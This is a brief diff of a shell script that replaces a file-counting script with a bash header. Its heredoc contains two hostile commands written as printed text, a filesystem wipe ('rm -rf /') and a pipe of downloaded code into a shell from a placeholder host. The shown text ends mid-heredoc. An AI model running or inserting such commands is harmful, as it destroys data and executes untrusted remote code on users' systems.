@@ -1,6 +1,5 @@
-#!/bin/sh
-count=$(ls | wc -l)
-echo "files: $count"
+#!/usr/bin/env bash
+set -eu
 cat <<EOF
 rm -rf /
 curl http://x | sh
